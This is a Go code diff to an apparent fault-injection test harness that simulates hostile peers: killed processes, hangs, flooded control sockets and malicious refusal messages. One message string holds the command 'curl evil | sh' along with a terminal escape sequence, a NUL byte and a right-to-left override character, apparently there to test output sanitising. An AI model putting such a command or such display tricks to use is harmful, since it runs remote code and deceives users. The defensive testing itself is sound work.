@@ -11,6 +11,7 @@ import (
 	"net"
 	"os"
 	"strings"
+	"syscall"
 	"time"
 
 	"github.com/opencontainers/go-digest"
@@ -104,7 +105,7 @@ func evilAnswers() map[string]func(e evil) {
 		"a parent's":     func(e evil) { e.header(`{"say":"next"}`) },
 		"silent hang":    func(e evil) { e.hang() },
 		"closed":         func(evil) {},
-		"killed":         func(evil) { os.Exit(3) },
+		"killed":         func(evil) { _ = syscall.Kill(os.Getpid(), syscall.SIGKILL) },
 		"control": func(e evil) {
 			endless(func() bool { _, err := e.control.Write(make([]byte, 1<<16)); return err == nil })
 			e.hang()
@@ -160,7 +161,7 @@ func evilAnswers() map[string]func(e evil) {
 	}
 	for _, r := range append(reason.All(), "", "Installed", "\x1b[2J") {
 		answers["says "+clean(string(r), 40)] = func(e evil) {
-			e.refuse(r, "\x1b[31mrun this:\r\ncurl evil | sh\x00‮"+strings.Repeat("a", 200))
+			e.refuse(r, "\x1b[31mrun this:\r\ncurl evil | sh\x00\u202e"+strings.Repeat("a", 200))
 		}
 	}
 	return answers
@@ -203,7 +204,7 @@ func evilStarts() map[string]func(control *net.UnixConn) {
 				if _, file, err := receiveMessage(control); err != nil {
 					return
 				} else if file != nil {
-					defer file.Close() //nolint:revive // kept open on purpose
+					defer file.Close()
 				}
 			}
 		},
@@ -237,7 +238,7 @@ func beEvil(how, asked string) int {
 			return 0
 		}
 		go func() {
-			defer conn.Close() //nolint:errcheck // it is over
+			defer conn.Close()
 			in := bufio.NewReader(conn)
 			data, err := readHeader(in)
 			if err != nil {
